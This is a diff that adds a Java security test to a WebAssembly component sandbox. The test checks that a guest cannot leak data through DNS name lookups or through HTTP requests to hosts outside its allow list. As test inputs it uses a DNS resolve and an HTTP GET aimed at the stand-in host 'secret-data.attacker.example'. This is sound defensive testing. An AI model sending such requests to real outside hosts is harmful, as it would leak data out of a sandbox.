@@ -217,6 +217,25 @@ class SecuritySuiteTest {
     }
 
     @Test
+    void dnsExfiltrationThroughNameLookupsIsClosed() throws Exception {
+        // A guest without network rules cannot resolve names at all (a lookup alone reaches a DNS server).
+        policy("netprobe", "  environment:\n    allow: [{key: NETPROBE_ACTION}, {key: NETPROBE_TARGET}]\n");
+        ComponentHost probing = new ComponentHost(Fixtures.engine(), new ComponentHost.Settings(tmp.resolve("components"),
+                tmp.resolve("secrets"), tmp, Map.of(), Map.of(), Map.of(),
+                Map.of("NETPROBE_ACTION", "resolve", "NETPROBE_TARGET", "secret-data.attacker.example:443"), Duration.ofSeconds(5), 1 << 20));
+        try (probing) {
+            probing.loadAll();
+            ExportedFunction run = probing.component("netprobe").sandbox().component().export("wasi:cli/run@0.2.0#run");
+            assertThrows(TrapException.class, () -> probing.call("netprobe", run, List.of()));
+        }
+        // HTTP: a name no rule could allow is refused before the host looks it up.
+        policy("fetch", "  network:\n    allow: [{host: \"api.example.com\"}]\n");
+        long before = networkDenials();
+        err(call("fetch", "http-get", new Val.Str("http://secret-data.attacker.example/")));
+        assertTrue(networkDenials() > before);
+    }
+
+    @Test
     void cpuSpinIsStopped() throws Exception {
         TrapException e = assertThrows(TrapException.class, () -> call("spin", "spin"));
         assertTrue(e.kind() == TrapException.Kind.TIMEOUT || e.kind() == TrapException.Kind.OUT_OF_FUEL, e.getMessage());
